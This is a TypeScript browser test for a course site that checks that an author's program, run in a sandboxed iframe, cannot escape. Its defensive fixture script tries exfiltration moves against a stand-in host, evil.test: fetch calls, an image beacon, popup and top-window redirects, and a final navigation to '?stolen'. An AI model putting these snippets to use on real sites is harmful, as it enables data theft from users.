import { Hono } from 'hono';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { programPolicy } from '../../src/web/learner/frames/frame-policy.ts';
import { programDocument } from '../../src/web/learner/frames/program-document.ts';
import { aVersion } from '../../src/web/learner/render/testing.ts';
import { securityHeaders } from '../../src/web/request/security-headers.ts';
import { openBrowser } from '../support/browser.ts';

const origin = 'https://mooc.test';
const assets = { styles: [], script: () => '/site/frame-inside.js' };

/** An author's program that tries all it can, and says to the page what it could do. */
const burglar = `<p id="out">trying</p><script>
  const could = [];
  const attempt = async (what, act) => { try { if (await act()) could.push(what); } catch {} };
  (async () => {
    await attempt('cookie', () => { document.cookie = 'a=b'; return document.cookie !== ''; });
    await attempt('storage', () => { localStorage.setItem('a', 'b'); return true; });
    await attempt('page', () => parent.document.title);
    await attempt('own origin', () => self.origin !== 'null');
    await attempt('fetch own pages', () => fetch('${origin}/account').then(() => true));
    await attempt('fetch elsewhere', () => fetch('https://evil.test/?x').then(() => true));
    await attempt('beacon', () => new Promise((done) => { const i = new Image(); i.onload = () => done(true); i.onerror = () => done(false); i.src = 'https://evil.test/x.png'; }));
    await attempt('popup', () => window.open('https://evil.test/'));
    await attempt('top', () => { top.location = 'https://evil.test/'; return false; });
    await attempt('frame', () => { const f = document.createElement('iframe'); f.src = 'https://evil.test/'; document.body.append(f); return false; });
    await attempt('worker', () => new Promise((done) => { const w = new Worker('data:text/javascript,postMessage(1)'); w.onmessage = () => done(true); w.onerror = () => done(false); }));
    parent.postMessage({ type: 'mooc.frame.height', height: 321 }, '*');
    parent.postMessage({ type: 'mooc.frame.height', height: 1e9 }, '*');
    parent.postMessage({ type: 'mooc.frame.height', height: 'x' }, '*');
    parent.postMessage('<script>1</' + 'script>', '*');
    parent.postMessage({ could }, '*');
    location = 'https://evil.test/?stolen';
  })();
</script>`;

const site = new Hono();
site.use(securityHeaders);
site.get('/page', (c) => {
  c.header('set-cookie', 'session=secret; Path=/; SameSite=Lax; HttpOnly');
  return c.html(
    '<title>Ours</title><iframe data-frame sandbox="allow-scripts allow-forms allow-modals" src="/frame/1" height="480"></iframe>',
  );
});
site.get('/frame/1', (c) =>
  c.html(programDocument(burglar, { version: aVersion(), assets, title: 'x', folder: '' }), 200, {
    'content-security-policy': programPolicy(origin, []),
  }),
);
site.get('/account', (c) => c.text('private'));

let browser: Browser;
beforeAll(async () => {
  browser = await openBrowser();
});
afterAll(() => browser.close());

async function visit(page: Page): Promise<readonly string[]> {
  const elsewhere: string[] = [];
  await page.route('**', async (route) => {
    const url = new URL(route.request().url());
    if (url.origin !== origin) {
      elsewhere.push(url.href);
      return route.abort();
    }
    const response = await site.request(url.pathname);
    const headers = Object.fromEntries(response.headers);
    return route.fulfill({ status: response.status, headers, body: await response.text() });
  });
  await page.goto(`${origin}/page`);
  return elsewhere;
}

describe('an author’s program in its frame', () => {
  it('has no cookies, reaches neither the page nor any host, and leads nowhere', async () => {
    const page = await browser.newPage();
    await page.addInitScript(() => {
      window.addEventListener('message', ({ data }) => {
        if (data?.could) Object.assign(window, { could: data.could });
      });
    });
    const elsewhere = await visit(page);
    const could = await page.waitForFunction(() => (window as { could?: string[] }).could);
    expect(await could.jsonValue()).toEqual([]);
    expect(elsewhere).toEqual([]);
    expect(page.url()).toBe(`${origin}/page`);
    await page.close();
  });
});
